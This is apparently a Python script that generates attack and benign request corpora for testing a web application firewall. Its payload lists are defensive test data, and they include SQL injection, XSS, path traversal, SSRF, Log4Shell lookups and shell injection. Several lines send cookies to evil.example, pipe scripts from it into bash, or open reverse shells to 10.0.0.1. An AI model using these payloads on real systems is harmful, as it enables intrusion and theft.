#!/usr/bin/env python3
"""Writes tests/waf/attacks.jsonl and tests/waf/benign.jsonl, the corpora
tests/waf.rs holds the shipped rules against (and bench/waf.sh sends through
nginx + ModSecurity + CRS).

Deterministic (seeded): run it again after changing the lists below, and
commit both files. Each line is one request:

  {"id": "sqli-0012-query-url", "family": "sqli", "position": "query",
   "method": "GET", "target": "/api/search?q=...", "headers": [["User-Agent", "..."]],
   "body": "..."}

`target` is the request-target exactly as sent; `body` is text (UTF-8).
Attack payloads are written by the gatehouse team from the public
literature of each attack class (OWASP, PayloadsAllTheThings-style
categories, the CRS regression tests as a reminder of what exists); the
benign requests are built from realistic API traffic with the prose,
names, markdown and tokens that trip naive rules.
"""
import json
import random
import urllib.parse
import uuid
from pathlib import Path

HERE = Path(__file__).resolve().parent
rng = random.Random(20261202)

# --------------------------------------------------------------------------
# Attack payloads, by family. Each is the payload as the attacker means it
# (before any transport encoding).
# --------------------------------------------------------------------------

SQLI = [
    "' or 1=1--", "' OR '1'='1", "\" or \"\"=\"", "admin'--", "admin' #", "' or 1=1#",
    "1' or '1'='1", "') or ('a'='a", "1 or 1=1", "1) or (1=1", "' or 'x'='x",
    "1' and 1=2 union select 1,2,3--", "' union select null,null,null--",
    "' UNION ALL SELECT username, password FROM users--", "1 union select @@version",
    "-1 UNION SELECT 1,group_concat(table_name),3 FROM information_schema.tables--",
    "' union select load_file('/etc/passwd')--", "1; drop table users--",
    "'; DROP TABLE accounts; --", "1'; insert into users values('x','y')--",
    "'; exec xp_cmdshell 'dir'--", "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
    "1 and sleep(5)", "' and sleep(5)--", "1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "'; waitfor delay '0:0:5'--", "1; SELECT pg_sleep(5)--", "' or benchmark(10000000,md5(1))#",
    "1' and extractvalue(1,concat(0x7e,version()))--", "' and updatexml(1,concat(0x7e,(select user())),1)--",
    "1 and ascii(substring((select database()),1,1))>64", "' and substring(@@version,1,1)='5",
    "1' order by 5--", "1 group by 3--", "' having 1=1--", "1' and 1=convert(int,@@version)--",
    "' or exists(select * from users)--", "1' and (select count(*) from sysobjects)>0--",
    "' or ''='", "1 or true--", "x' AND email IS NULL; --", "' or 1 in (select @@version)--",
    "1 AND 1=1", "1' AND '1'='1", "1' or sleep(3)#", "';select case when (1=1) then pg_sleep(5) else pg_sleep(0) end--",
    "1 and if(1=1,sleep(5),0)", "1' into outfile '/var/www/shell.php'--", "' union select char(72,101,108,108,111)--",
    "1;shutdown--", "' or username like '%admin%", "1' rlike (select (case when (1=1) then 1 else 0x28 end))--",
    "' and 1=(select top 1 name from sys.tables)--", "admin' or '1'='1'/*", "' OR 1=1 LIMIT 1 --",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)", "' || (select user from dual) || '",
    "1' and utl_inaddr.get_host_address((select banner from v$version where rownum=1)) is not null--",
    "' or dbms_pipe.receive_message(('a'),10) is null--", "-1' union select 1,concat(user,0x3a,password) from mysql.user#",
]

XSS = [
    "<script>alert(1)</script>", "<script>alert(document.cookie)</script>", "<ScRiPt>prompt(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert('xss')\">",
    "<svg/onload=alert(1)>", "<svg onload=confirm`1`>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=\"javascript:alert(1)\">click</a>", "javascript:alert(document.domain)",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<div style=\"background:url(javascript:alert(1))\">",
    "<div style=\"width:expression(alert(1))\">", "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>", "<script>fetch('//evil.example/'+document.cookie)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "';alert(1);//", "\";alert(1);//",
    "'-alert(1)-'", "{{constructor.constructor('alert(1)')()}}", "<svg><script>alert&#40;1&#41;</script>",
    "<img src=x onerror=window.location='//evil.example'>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<img src=x onerror=\\u0061lert(1)>", "<svg><set attributeName=onload to=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
    "<body onpageshow=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<img src=\"x\" onerror=\"document.body.innerHTML='pwned'\">",
    "<script>setTimeout('alert(1)',0)</script>", "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>", "vbscript:msgbox(1)",
    "<x onclick=alert(1)>click", "<style>@import 'javascript:alert(1)';</style>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
]

LFI = [
    "../../../../etc/passwd", "../../../etc/shadow", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd",
    "/etc/passwd", "/etc/passwd%00", "../../../../../../etc/hosts", "/proc/self/environ", "../../../proc/self/cmdline",
    "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..;/..;/WEB-INF/web.xml", "/WEB-INF/web.xml", "../../WEB-INF/classes/application.properties",
    "C:\\Windows\\System32\\drivers\\etc\\hosts", "c:/boot.ini", "../../../../var/log/apache2/access.log",
    "/var/www/html/../../../etc/passwd", "....\\\\....\\\\windows\\\\system.ini", "../../../../home/ubuntu/.ssh/id_rsa",
    "../.env", "/.git/config", "../../.aws/credentials", "file:///etc/passwd", "file://c:/windows/win.ini",
    "../../../../../../../../../../etc/passwd", "/..\\..\\..\\etc\\passwd", "..///////..////..//////etc/passwd",
    "/%5C../%5C../%5C../etc/passwd", "../../../../usr/local/etc/php.ini", "/proc/1/status", "../../config/database.yml",
    "..\\..\\web.config", "/root/.bash_history", "../../../../var/lib/mysql/mysql/user.MYD", "/etc/nginx/nginx.conf",
]

RFI = [
    "http://evil.example/shell.txt?", "https://203.0.113.9/inc.php?", "php://input", "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "expect://id", "phar://uploads/avatar.jpg/shell.php", "zip://uploads/x.zip#shell.php", "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:22/", "http://localhost/admin", "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/stats", "http://[::1]/", "http://0.0.0.0:8080/", "http://2130706433/", "ftp://evil.example/backdoor.txt?",
    "http://evil.example/shell.txt%00", "ldap://evil.example/a", "jar:http://evil.example/x.jar!/", "http://0x7f000001/",
    "compress.zlib://file.gz", "glob://*", "http://user@127.0.0.1:8000/", "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
]

RCE = [
    ";cat /etc/passwd", "| cat /etc/passwd", "&& whoami", "|| id", "; id", "`id`", "$(whoami)", "; ls -la /", "| ls -la",
    "127.0.0.1; cat /etc/shadow", "127.0.0.1 && id", "1|id", "x;uname -a", "; sleep 5", "| sleep 10 ;", "$(sleep 5)",
    "; wget http://evil.example/x.sh -O /tmp/x.sh; sh /tmp/x.sh", "| curl http://evil.example/s.sh | bash", ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; nc -e /bin/sh 10.0.0.1 4444", "; python -c 'import socket,subprocess,os;s=socket.socket()'", "; perl -e 'use Socket;'",
    "|rm -rf /", "; cat$IFS/etc/passwd", ";c'a't /e\"t\"c/pa\\ss\\wd", ";w\\h\\o\\a\\m\\i", "{cat,/etc/passwd}",
    "; /bin/cat /etc/passwd", "| /usr/bin/id", "%0aid", "\nwhoami", "a;nslookup evil.example", "& ping -c 10 127.0.0.1 &",
    "; echo $PATH", "; printenv", "| base64 -d <<< Y2F0IC9ldGMvcGFzc3dk | sh", "; chmod +x /tmp/x; /tmp/x",
    "& dir c:\\", "| type c:\\windows\\win.ini", "& net user", "| whoami /all", "; powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "& powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')", "| cmd /c dir", "& ipconfig /all",
    "& certutil -urlcache -split -f http://evil.example/x.exe", "| systeminfo", "& tasklist", "%COMSPEC% /c whoami",
    "() { :; }; /bin/bash -c 'cat /etc/passwd'", "() { :;}; echo; /usr/bin/id", "; mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
    "$(curl http://evil.example/`whoami`)", "; awk 'BEGIN {system(\"id\")}'", "| find / -name '*.conf'", "; ls${IFS}-la",
    "& reg query HKLM\\Software", "| wmic process list", "; tail -n 50 /var/log/auth.log", "; head /etc/shadow",
]

PHP = [
    "<?php system($_GET['c']); ?>", "<?php echo shell_exec('id'); ?>", "<?= `id` ?>", "<?php eval($_POST[1]);?>",
    "system('id');", "exec('cat /etc/passwd')", "passthru('ls -la')", "shell_exec('whoami')", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))",
    "assert($_REQUEST['x'])", "preg_replace('/.*/e','system(\"id\")','')", "phpinfo()", "file_get_contents('/etc/passwd')",
    "include($_GET['page'])", "O:8:\"stdClass\":1:{s:4:\"test\";s:3:\"abc\";}", "a:2:{i:0;s:4:\"test\";i:1;O:4:\"Evil\":0:{}}",
    "O:21:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:33:\"\\u0000GuzzleHttp\\Psr7\\FnStream\\u0000methods\";a:0:{}}", "${@system($_GET[c])}",
    "call_user_func('system','id')", "create_function('', 'system(\"id\");')", "file_put_contents('shell.php','<?php system($_GET[c]);')",
    "<?php $c=$_GET['c'];`$c`; ?>", "$_SERVER['HTTP_USER_AGENT']", "popen('id','r')", "proc_open('id',array(),$p)",
    "gzinflate(base64_decode('...'))", "str_rot13('flfgrz')", "unserialize($_COOKIE['data'])", "php_uname()",
]

JAVA = [
    "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/x}", "${jndi:dns://evil.example/x}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${java:runtime}", "${upper:jndi}:ldap://x", "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec('calc')}", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null).exec(\"id\")}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7",
    "java.lang.Runtime.getRuntime().exec(\"id\")", "new java.lang.ProcessBuilder(\"id\").start()", "org.apache.commons.collections.functors.InvokerTransformer",
    "javax.naming.InitialContext", "${pageContext.request.getSession().setAttribute(\"a\",\"b\")}", "${applicationScope}",
]

SSTI = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "{{config.items()}}", "{{self.__dict__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{lipsum.__globals__.os.popen('id').read()}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{% import os %}{{os.system('id')}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "{{['id']|filter('system')}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "<%= system('id') %>", "<%= `id` %>", "{php}echo `id`;{/php}", "{system('id')}", "{{#with \"s\" as |string|}}{{/with}}",
    "@(1+2)", "[[${7*7}]]", "{{ ''.__class__.__base__.__subclasses__() }}", "{{config.__class__.__init__.__globals__['os'].popen('ls').read()}}",
]

NOSQL = [
    ("json", {"username": "admin", "password": {"$ne": ""}}), ("json", {"username": {"$gt": ""}, "password": {"$gt": ""}}),
    ("json", {"user": {"$regex": "^adm"}, "pass": {"$ne": 1}}), ("json", {"$where": "this.password.length > 0"}),
    ("json", {"username": {"$in": ["admin", "root"]}}), ("json", {"filter": {"$where": "sleep(5000) || true"}}),
    ("json", {"email": {"$exists": True}, "role": {"$nin": ["guest"]}}), ("json", {"q": {"$expr": {"$eq": [1, 1]}}}),
    ("query", "username[$ne]=x&password[$ne]=x"), ("query", "user[$regex]=.*&pass[$gt]="), ("query", "login[$gt]=&pwd[$gt]="),
    ("query", "id[$where]=1"), ("form", "username=admin&password[$ne]=wrong"), ("form", "user[$exists]=true&pass[$ne]="),
    ("json", {"search": "'; return true; var x='"}), ("json", {"name": "a'; while(true){}; '"}), ("json", {"$or": [{"a": 1}, {"b": 2}]}),
    ("json", {"filter": "{\"$gt\": \"\"}"}), ("json", {"q": "db.users.find({})"}), ("json", {"q": "this.isAdmin == true || '1'=='1'"}),
]

SCANNER_UA = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Nmap Scripting Engine; https://nmap.org/book/nse.html",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Fuzz Faster U Fool v2.0.0-dev", "gobuster/3.6", "Wfuzz/3.1.0", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Mozilla/5.0 (compatible; Nessus SOAP)",
    "Acunetix-Product: WVS/5.0", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Netsparker)", "w3af.org", "commix/v3.8",
    "Mozilla/5.0 zgrab/0.x", "feroxbuster/2.10.1", "dirsearch/0.4.3", "Arachni/v1.5.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) OpenVAS-VT",
    "XSStrike", "havij", "Morfeus Fucking Scanner", "ZmEu", "WhatWeb/0.5.5", "jaeles", "Mozilla/5.0 (compatible; Qualys WAS)",
]

PROTOCOL = [
    # (kind, value): raw request pieces that are malformed in themselves.
    ("query_raw", "file=report.pdf%00.txt"), ("query_raw", "name=abc%00def"), ("query_raw", "q=%zz%zz"), ("query_raw", "q=100%"),
    ("query_raw", "a=%c0%af"), ("query_raw", "p=%c0%ae%c0%ae%c0%af"), ("query_raw", "x=%e0%80%af"), ("query_raw", "q=%ff%fe"),
    ("query_raw", "next=%0d%0aSet-Cookie:%20admin=1"), ("query_raw", "lang=en%0d%0aLocation:%20https://evil.example"),
    ("query_raw", "r=%0d%0a%0d%0a<html>injected</html>"), ("query_raw", "q=a%0d%0aX-Injected:%201"), ("query_raw", "page=%0aHTTP/1.1%20200%20OK"),
    ("method", "TRACE"), ("method", "TRACK"), ("method", "DEBUG"),
    ("header", ("X-Forwarded-Host", "evil.example%0d%0aSet-Cookie: a=1")), ("header", ("Referer", "https://a.example/%00")),
    ("dup_header", ("Content-Length", "0")), ("dup_header", ("Host", "evil.example")), ("te_cl", None), ("te_bad", "gzip"),
    ("long_header", 9000), ("many_headers", 120), ("cookie_raw", "session=abc%00def"), ("path_raw", "/api/files/%00secret"),
    ("path_raw", "/api/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), ("path_raw", "/api/search/%zz"),
]

FAMILIES = {"sqli": SQLI, "xss": XSS, "lfi": LFI, "rfi": RFI, "rce": RCE, "php": PHP, "java": JAVA, "ssti": SSTI}

ATTACK_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

def q_plain(s):
    """What a browser puts in a query: only what RFC 3986 does not allow raw
    (and what would end the value: `&`, `=`, `+`, `#`) is escaped."""
    return urllib.parse.quote(s, safe="/:@!$'()*,;?~._-")

def q_url(s):
    return urllib.parse.quote(s, safe="")

def q_double(s):
    return urllib.parse.quote(urllib.parse.quote(s, safe=""), safe="")

def html_entities(s):
    out = []
    for c in s:
        if c.isalnum() or c == " ":
            out.append(c)
        else:
            out.append("&#%d;" % ord(c) if rng.random() < 0.5 else "&#x%x;" % ord(c))
    return "".join(out)

def mixed_case(s):
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)

def sql_comments(s):
    return s.replace(" ", "/**/")

def whitespace(s):
    return "".join(rng.choice(["\t", "\n", "  ", "\x0b"]) if c == " " else c for c in s)

def request(id_, family, position, method, target, headers=None, body=None):
    h = [["User-Agent", ATTACK_UA], ["Accept", "*/*"]]
    for k, v in headers or []:
        if k.lower() == "user-agent":
            h[0] = [k, v]
        else:
            h.append([k, v])
    return {"id": id_, "family": family, "position": position, "method": method, "target": target,
            "headers": h, "body": body}

QUERY_PATHS = ["/api/search", "/api/products", "/api/users", "/api/items", "/api/report", "/api/download", "/api/page"]
PARAMS = ["q", "id", "name", "search", "file", "page", "sort", "filter", "path", "url", "cmd", "redirect", "template", "lang"]
HEADERS = ["User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "X-Search", "X-Custom-Header"]

def attack_variants(family, payload):
    """(encoding name, transformed payload) pairs for a payload."""
    out = [("plain", payload)]
    if family in ("sqli",):
        out.append(("mixed", mixed_case(payload)))
        if " " in payload:
            out.append(("comments", sql_comments(payload)))
    if family in ("xss",):
        out.append(("mixed", mixed_case(payload)))
        if rng.random() < 0.4:
            out.append(("entities", html_entities(payload)))
    if family in ("rce", "sqli", "xss") and " " in payload and rng.random() < 0.3:
        out.append(("whitespace", whitespace(payload)))
    return out

def attacks():
    reqs = []
    for family, payloads in FAMILIES.items():
        for i, payload in enumerate(payloads):
            for enc, p in attack_variants(family, payload):
                base = f"{family}-{i:03d}-{enc}"
                path = rng.choice(QUERY_PATHS)
                param = rng.choice(PARAMS)
                # Query, plain transport encoding, and URL / double URL.
                reqs.append(request(f"{base}-query", family, "query", "GET", f"{path}?{param}={q_plain(p)}&page=1"))
                if enc == "plain":
                    reqs.append(request(f"{base}-query-url", family, "query", "GET", f"{path}?{param}={q_url(p)}"))
                    reqs.append(request(f"{base}-query-double", family, "query", "GET", f"{path}?{param}={q_double(p)}"))
                # A form and a JSON body.
                form = urllib.parse.urlencode({"name": "Jane", param: p})
                reqs.append(request(f"{base}-form", family, "form", "POST", path,
                                    [["Content-Type", "application/x-www-form-urlencoded"]], form))
                doc = {"user": {"name": "Jane", "comment": p}, "tags": ["a", p]} if rng.random() < 0.5 else {param: p}
                reqs.append(request(f"{base}-json", family, "json", "POST", path,
                                    [["Content-Type", "application/json"]], json.dumps(doc)))
                # Headers and cookies take what is printable.
                if enc in ("plain", "mixed") and all(32 <= ord(c) < 127 for c in p):
                    header = rng.choice(HEADERS)
                    reqs.append(request(f"{base}-header", family, "header", "GET", path, [[header, p]]))
                    reqs.append(request(f"{base}-cookie", family, "cookie", "GET", path,
                                        [["Cookie", f"theme=dark; pref={q_url(p)}"]]))
    for i, (where, payload) in enumerate(NOSQL):
        if where == "json":
            reqs.append(request(f"nosql-{i:03d}-json", "nosql", "json", "POST", "/api/login",
                                [["Content-Type", "application/json"]], json.dumps(payload)))
        elif where == "query":
            target = "/api/users?" + urllib.parse.quote(payload, safe="=&")
            reqs.append(request(f"nosql-{i:03d}-query", "nosql", "query", "GET", target))
            reqs.append(request(f"nosql-{i:03d}-query-plain", "nosql", "query", "GET", "/api/users?" + payload))
        else:
            reqs.append(request(f"nosql-{i:03d}-form", "nosql", "form", "POST", "/api/login",
                                [["Content-Type", "application/x-www-form-urlencoded"]], payload))
    for i, ua in enumerate(SCANNER_UA):
        reqs.append(request(f"scanner-{i:03d}", "scanner", "header", "GET", rng.choice(QUERY_PATHS), [["User-Agent", ua]]))
    for i, (kind, v) in enumerate(PROTOCOL):
        rid = f"protocol-{i:03d}-{kind}"
        if kind == "query_raw":
            reqs.append(request(rid, "protocol", "query", "GET", f"/api/search?{v}"))
        elif kind == "method":
            reqs.append(request(rid, "protocol", "method", v, "/api/items"))
        elif kind == "header":
            reqs.append(request(rid, "protocol", "header", "GET", "/api/items", [list(v)]))
        elif kind == "dup_header":
            reqs.append(request(rid, "protocol", "header", "POST" if v[0] == "Content-Length" else "GET", "/api/items", [list(v), list(v)]))
        elif kind == "te_cl":
            reqs.append(request(rid, "protocol", "header", "POST", "/api/items",
                                [["Content-Length", "4"], ["Transfer-Encoding", "chunked"]], "0\r\n\r\n"))
        elif kind == "te_bad":
            reqs.append(request(rid, "protocol", "header", "POST", "/api/items", [["Transfer-Encoding", v]], "abcd"))
        elif kind == "long_header":
            reqs.append(request(rid, "protocol", "header", "GET", "/api/items", [["X-Padding", "a" * v]]))
        elif kind == "many_headers":
            reqs.append(request(rid, "protocol", "header", "GET", "/api/items", [[f"X-H{n}", "1"] for n in range(v)]))
        elif kind == "cookie_raw":
            reqs.append(request(rid, "protocol", "cookie", "GET", "/api/items", [["Cookie", v]]))
        elif kind == "path_raw":
            reqs.append(request(rid, "protocol", "path", "GET", v))
    # Path traversal in the path itself.
    for i, p in enumerate(["/api/files/..%2f..%2f..%2fetc%2fpasswd", "/static/%2e%2e/%2e%2e/etc/passwd",
                           "/api/download/....//....//etc/passwd", "/api/file/..%252f..%252fetc%252fpasswd",
                           "/api/img/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd", "/api/x/..%5c..%5cwindows%5cwin.ini"]):
        reqs.append(request(f"lfi-path-{i:03d}", "lfi", "path", "GET", p))
    return reqs

# --------------------------------------------------------------------------
# Benign traffic.
# --------------------------------------------------------------------------

SENTENCES = [
    "I'd like to return this item; it doesn't fit.", "Great product -- would buy again!", "Don't select the blue one, it fades.",
    "The Union Jack flag arrived folded, no creases.", "We dropped the price by 20% for Black Friday.", "Is this compatible with my 2019 model?",
    "Delivery was late (again) and the box was damaged.", "My son's favourite: he plays with it every day.", "5 stars -- \"exactly as described\".",
    "Use a 3/8\" drill bit, not 1/2\".", "Works on Windows and macOS; Linux support is beta.", "2 < 3 and 5 > 4, as my daughter says.",
    "I <3 this shop!", "Ordered on Monday; arrived Wednesday. Impressed.", "The script font looks elegant on the invitations.",
    "Select a size, then choose a colour or pattern.", "Where do I find the 'update' button? It isn't where the manual says.",
    "Shipping to O'Fallon, MO -- any delays?", "Please cancel order #4471 and refund to my card.", "The drop-down menu is hard to use on mobile.",
    "Cats or dogs? Why not both!", "Rock & roll never dies.", "Salt and pepper, or just salt?", "1 or 2 scoops of coffee per cup?",
    "Tom & Jerry; the classic cartoon box set.", "Her answer was 'yes' or 'no', nothing else.", "This is the best -- and cheapest -- option.",
    "Add 1/4 cup sugar; stir; bake 20 min.", "The update from version 2.3 to 2.4 broke my settings.", "We insert the card, then select 'pay'.",
    "Delete my account, please: I no longer use it.", "Table for 4 at 8pm, by the window if possible.", "Drop me a line when it's back in stock.",
    "The union of sets A and B contains every element of either.", "In SQL, a SELECT statement reads rows from a table.",
    "He wrote: \"Where is my parcel?\" -- twice.", "€15,00 incl. VAT; free returns within 30 days.", "Price: $1,299.99 (was $1,499.00).",
    "Call me at +1 (555) 010-9999 after 6pm.", "Email me: jane.doe+shop@example.com", "Mon-Fri 9:00-17:00; Sat 10:00-14:00.",
    "It's 100% cotton; wash at 40°C.", "Size: 42 EU / 8.5 US / 7.5 UK.", "Model #A-113/B; serial 00045-XT.", "Temperature range: -20°C to +45°C.",
    "C'est parfait, merci beaucoup !", "L'article est arrivé en retard, mais en bon état.", "Das Produkt ist super; die Lieferung war schnell.",
    "¿Dónde está mi pedido? Lo pedí el lunes.", "Produto ótimo, chegou antes do prazo!", "Ottimo rapporto qualità/prezzo.",
    "Bardzo dobry produkt, polecam!", "Ürün çok güzel, teşekkürler.", "Отличный товар, доставка быстрая.", "Πολύ καλό προϊόν!",
    "منتج رائع، شكراً لكم", "מוצר מעולה, תודה!", "बहुत अच्छा उत्पाद है।", "质量很好，物流也快。", "とても良い商品です。また買います！",
    "정말 좋은 제품이에요!", "Sản phẩm rất tốt, giao hàng nhanh.", "สินค้าดีมากครับ", "Great gift 🎁 for my mum 😊", "👍👍👍",
    "The function returns null if the key is missing.", "Run `npm install` and then `npm run build`.", "See section 3.2 (\"Returns & Refunds\").",
    "My username is o'neil_83 -- can you reset it?", "Could you update the address? The old one was 12 Rue de l'Église.",
    "Between 10 and 20 units, or more if you can.", "She said: 'I'll be there at 5; don't wait.'", "Is 'or' a keyword? Just curious.",
    "He's a fan of AC/DC and Guns N' Roses.", "Meet at St. John's -- the one on 5th Ave.", "Order 1; order 2; order 3 -- all delayed.",
    "Windows path: C:\\Users\\Jane\\Documents\\report.docx", "The file is at /home/jane/projects/site/index.html (my laptop).",
    "We use <b>bold</b> in the newsletter template.", "Values: a=1, b=2; c=3.", "If x > 5 then alert the team by email.",
    "The alert (optional) sends a text when stock is low.", "Please include (optional) a gift note.", "Version 1.2.3 -- changelog attached.",
    "Sleep tracking works well; battery lasts 5 days.", "I sleep 8 hours; the mattress is great.", "Find me on the forum as @cat_lover.",
    "ping me when it ships", "Echo Dot (4th gen) -- works great with my lights.", "The cat sat on the mat; the dog did not.",
    "Kill switch on the mower stopped working.", "Touch screen is responsive, even with gloves.", "Head & Shoulders shampoo, 2-pack.",
    "The Curl Cream by Bounce -- for curly hair.", "Bash party on Saturday; bring snacks!", "Java beans, dark roast, 1kg.",
    "Python book for beginners, 3rd edition.", "Ruby ring, size 7, gold plated.", "Perl necklace -- sorry, pearl!", "Shell case for phone.",
    "the document. Location of the store is downtown.", "Go to the top. Name your file carefully.", "Response on error = retry twice.",
    "Sort by: price (low to high); filter: in stock.", "Answer true or false: the sky is blue.", "Choose 'red' or 'blue' -- both ship today.",
    "Terms & Conditions apply; see store for details.", "Ben & Jerry's -- Half Baked, 465ml.", "50% off; use code SAVE50 at checkout.",
    "Room 101; Building B; Floor 3.", "Version: \"2.0\"; Build: \"1042\"", "Dimensions: 30cm x 20cm x 10cm", "Weight: 1.5kg (3.3lb)",
]

NAMES = ["O'Brien", "D'Angelo", "Smith-Jones", "José Álvarez", "Zoë Müller", "Nguyễn Văn An", "Renée O'Connor", "Jean-Luc Picard",
         "Siobhán Ní Bhriain", "Björn Ødegård", "Łukasz Wiśniewski", "Ahmed Al-Farsi", "Mary-Kate O'Neil", "Dr. Anne Smith, PhD",
         "Robert'); DROP Bobby", "Chloé Dubois", "Anderson Jr.", "van der Berg", "Şahin Yılmaz", "Ma Li (马丽)", "Tanaka Hiroshi (田中 博)",
         "Park Ji-sung", "Priya Patel", "Olga Ivanova", "Kwame Mensah", "Aroha Ngata", "Juan de la Cruz", "Seán Ó Súilleabháin"]

STREETS = ["12 Rue de l'Église", "1600 Amphitheatre Pkwy; Bldg 40", "221B Baker St.", "Flat 3, 45 King's Road", "Calle Mayor, 5 - 2º izq.",
           "Hauptstraße 12a", "10 Downing St", "P.O. Box 1234", "Apt. #5, 77 O'Connell St.", "Unit 7/12 Smith St", "350 Fifth Avenue, 34th Floor",
           "Via Roma 1, int. 4", "ul. Marszałkowska 84/92 m. 12", "1-2-3 Shibuya, Shibuya-ku", "Rua Augusta, 1500 - Consolação"]

CITIES = ["Paris", "Mountain View", "London", "Madrid", "Berlin", "Dublin", "Sydney", "New York", "Rome", "Warsaw", "Tokyo", "São Paulo",
          "Zürich", "Montréal", "Kraków", "Düsseldorf", "Coeur d'Alene", "St. John's", "Winston-Salem", "Saint-Étienne"]

